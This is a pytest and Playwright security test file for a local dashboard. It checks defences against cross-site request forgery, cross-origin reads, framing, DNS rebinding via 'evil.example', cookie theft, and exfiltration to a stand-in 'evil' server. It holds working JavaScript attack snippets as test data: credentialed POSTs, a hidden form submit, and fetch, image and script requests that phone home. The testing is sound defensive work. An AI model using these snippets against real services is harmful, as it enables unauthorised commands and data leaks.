"""What a hostile page in the same browser can do to the dashboard: nothing."""

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from tests.fakes import write_fake_run
from tests.helpers import Yard

pytestmark = pytest.mark.ui


@pytest.fixture
def evil() -> Iterator[str]:
    """Another user's server on this machine: same site, other origin."""

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>evil</title>")
            self.server.asked.append(self.path)

        def log_message(self, *args: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    server.asked = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


SEND = """([url, kind]) => fetch(url, {
  method: "POST", mode: "no-cors", credentials: "include", headers: {"content-type": kind}, body: '{"command": "stop"}',
}).catch(() => {})"""
SUBMIT = """(url) => {
  document.body.innerHTML = `<iframe name="frame"></iframe>
    <form method="post" action="${url}" target="frame"></form>`;
  document.forms[0].submit();
}"""
READ = (
    "(url) => fetch(url, {credentials: 'include'}).then((response) => response.text()).catch(() => 'blocked')"
)
FRAME = """(url) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.src = url;
  frame.onload = done;
  setTimeout(done, 3000);
  document.body.append(frame);
})"""


def test_a_foreign_page_cannot_command_a_run_or_read_it(page, dashboard, tmp_path, evil):
    yard = Yard(tmp_path)
    try:
        run = yard.start(step_seconds=0.05)
        yard.goes_on(run)
        served = dashboard(tmp_path)
        page.goto(served.url("/runs"))  # the browser holds the cookie now
        page.goto(evil)
        command = f"{served.address}/wb/api/runs/{run.id}/commands"
        for kind in ("application/json", "text/plain"):
            page.evaluate(SEND, [command, kind])
        page.evaluate(SUBMIT, command)
        assert page.evaluate(READ, f"{served.address}/wb/api/runs") == "blocked"
        yard.goes_on(run, 5)
        assert run.take() == [] and run.status()["state"] == "running"
    finally:
        yard.close()


def test_the_dashboard_cannot_be_framed(page, dashboard, tmp_path, evil):
    served = dashboard(tmp_path)
    page.goto(served.url("/runs"))
    page.goto(evil)
    page.evaluate(FRAME, served.address)
    assert all("127.0.0.1" not in frame.url for frame in page.frames[1:])


def test_a_rebound_name_gets_no_response(browser, dashboard, tmp_path):
    """DNS says that evil.example is this machine, and the browser believes it (conftest.FLAGS)."""
    served = dashboard(tmp_path)
    page = browser.new_context().new_page()
    response = page.goto(f"http://evil.example:{served.address.rpartition(':')[2]}/?token={served.token}")
    assert response is not None and response.status == 421
    expect(page.locator("p")).to_contain_text("does not answer to the name 'evil.example:")
    assert page.context.cookies() == []
    page.context.close()


def test_without_the_token_a_person_reads_what_to_do(page, dashboard, tmp_path):
    served = dashboard(tmp_path)
    response = page.goto(served.address)
    assert response is not None and response.status == 401
    expect(page.locator("p")).to_contain_text("Open the address that it printed in its terminal")


def test_the_token_is_out_of_reach_of_any_script(page, dashboard, tmp_path):
    served = dashboard(tmp_path)
    page.goto(served.url("/runs"))
    page.locator("#wb-runs").wait_for(timeout=60_000)
    assert served.token not in page.url and page.evaluate("document.cookie") == ""
    [cookie] = [cookie for cookie in page.context.cookies() if cookie["name"].startswith("workbench-")]
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    page.reload()
    page.locator("#wb-runs h1").wait_for(timeout=60_000)


ESCAPES = """async (home) => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  await fetch(home + "/fetch").catch(() => {});
  new Image().src = home + "/image";
  document.body.insertAdjacentHTML("beforeend", `<object data="${home}/object"></object>
    <iframe src="${home}/frame"></iframe><link rel="stylesheet" href="${home}/style">
    <form action="${home}/form"><button id="go">go</button></form>`);
  document.getElementById("go").click();
  const script = document.createElement("script");
  script.src = home + "/script";
  document.body.append(script);
  await new Promise((done) => setTimeout(done, 1000));
  return blocked;
}"""
STOPPED = {
    "connect-src",
    "img-src",
    "object-src",
    "frame-src",
    "form-action",
    "style-src-elem",
    "script-src-elem",
}


def test_nothing_on_a_page_can_phone_home(browser, dashboard, tmp_path, evil):
    """What a completion could try, had it found a way in: the policy of the page stops it."""
    run = write_fake_run(tmp_path, steps=2, groups=2, samples=2)
    page = browser.new_context().new_page()
    page.goto(dashboard(tmp_path).url("/", run=run.id))
    page.locator("#wb-reader[data-view]").wait_for(timeout=60_000)
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    assert set(page.evaluate(ESCAPES, evil)) >= STOPPED
    assert not any(url.startswith(evil) for url in asked)
    page.context.close()
